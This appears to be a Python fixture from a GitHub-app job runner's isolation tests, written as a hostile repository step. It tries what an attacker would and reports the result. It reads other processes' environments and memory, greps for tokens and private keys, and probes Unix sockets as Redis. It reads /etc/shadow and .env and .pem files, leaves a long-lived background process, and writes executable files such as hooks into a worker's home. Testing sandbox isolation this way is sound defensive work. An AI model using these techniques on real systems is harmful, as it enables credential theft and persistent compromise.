"""A hostile repository's processing step: it tries what an attacker would, and reports.

The isolation tests put this file in a repository and run it as PROCESS_COMMAND. It prints one
line, ``ATTACK-REPORT <json>``: what it could see, read and reach. Arguments: seconds to keep
watching other processes, then paths it should try to write (a worker's HOME, say).
"""

import contextlib
import json
import os
import socket
import subprocess
import sys
import time

# What an attacker greps for: a PEM, a token, the names of ghapp's secrets.
LOOT = (
    "PRIVATE KEY",
    "ghs_",
    "x-access-token",
    "WEBHOOK_SECRET",
    "TOKEN_CACHE_KEY",
    "REDIS_URL",
    "requirepass",
    "unix://:",
)
report = {
    "pid": os.getpid(),
    "loot": [],
    "processes": {},
    "environ_read": {},
    "mem_read": [],
    "sockets": {},
    "files_read": {},
    "listing": {},
    "written": [],
}


def read(path, limit=2_000_000):
    try:
        with open(path, "rb") as handle:
            text = handle.read(limit).decode("utf-8", "replace")
    except OSError:
        return None
    search(path, text)
    return text


def search(where, text):
    """Note each piece of loot in ``text``, with a little of what surrounds it."""
    for sign in LOOT:
        at = text.find(sign)
        if at >= 0:
            report["loot"].append([where, text[max(0, at - 40) : at + 80]])


def look_at_processes():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == str(os.getpid()):
            continue
        cmdline = read(f"/proc/{pid}/cmdline")
        if cmdline is None:
            continue
        # Kept short: the report must fit the 64 KiB of output a job keeps.
        report["processes"][pid] = cmdline.replace("\0", " ").strip()[:120]
        if read(f"/proc/{pid}/environ") is not None:
            report["environ_read"][pid] = True
        try:
            with open(f"/proc/{pid}/maps") as maps:
                first = maps.readline().split()[0]
            start = int(first.split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(start)
                chunk = mem.read(64)
            if chunk:  # whoever reads 64 bytes can read it all
                report["mem_read"].append(pid)
        except (OSError, ValueError, IndexError):
            pass


def try_unix_sockets():
    """Every Unix socket the kernel lists: connect, and say PING as to a Redis."""
    text = read("/proc/net/unix") or ""
    for line in text.splitlines()[1:]:
        parts = line.split()
        if len(parts) < 8 or not parts[7].startswith("/"):
            continue
        path = parts[7]
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(1)
                sock.connect(path)
                sock.sendall(b"PING\r\n")
                report["sockets"][path] = sock.recv(200).decode("utf-8", "replace").strip()
        except OSError as exc:
            report["sockets"][path] = f"refused: {type(exc).__name__}"


def look_around():
    for directory in ("/", "/tmp", os.environ.get("HOME", "/"), "/home", "/root", "/run"):
        with contextlib.suppress(OSError):
            report["listing"][directory] = sorted(os.listdir(directory))[:100]
    for path in ("/etc/shadow", ".git/config", os.path.expanduser("~/.gitconfig")):
        report["files_read"][path] = read(path) is not None
    for root in ("/tmp", "/run", "/home", "/"):
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) or dirpath.count("/") > 6:
                dirnames[:] = []
                continue
            for name in filenames:
                if name in (".env", "redis.sock") or name.endswith((".pem", ".aof", ".log")):
                    path = os.path.join(dirpath, name)
                    report["files_read"][path] = read(path) is not None


def leave_something_behind(marker):
    """A process in a new session, meant to outlive the job."""
    subprocess.Popen(
        ["setsid", "sh", "-c", f"sleep 300; : {marker}"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def main():
    watch_seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 0
    targets = sys.argv[2:]
    leave_something_behind(os.environ.get("GHAPP_DELIVERY", "x") + "-leftover")
    deadline = time.monotonic() + watch_seconds
    while True:  # polls, to catch short-lived processes (a concurrent job's git)
        look_at_processes()
        if time.monotonic() >= deadline:
            break
        time.sleep(0.01)
    try_unix_sockets()
    look_around()
    for target in targets:  # e.g. a worker's git configuration, for its next job to read
        name, _, content = target.partition("=")
        try:
            os.makedirs(os.path.dirname(name), exist_ok=True)
            with open(name, "w") as handle:
                handle.write(content.replace("\\n", "\n"))
            os.chmod(name, 0o755)  # a hook must be executable to run
            report["written"].append(name)
        except OSError:
            pass
    # Something its worker cannot list or empty, left in the checkout.
    os.makedirs("locked/inner", exist_ok=True)
    with open("locked/inner/f", "w") as handle:
        handle.write("x")
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0)
    report["environment"] = dict(os.environ)
    print("ATTACK-REPORT " + json.dumps(report), flush=True)


main()
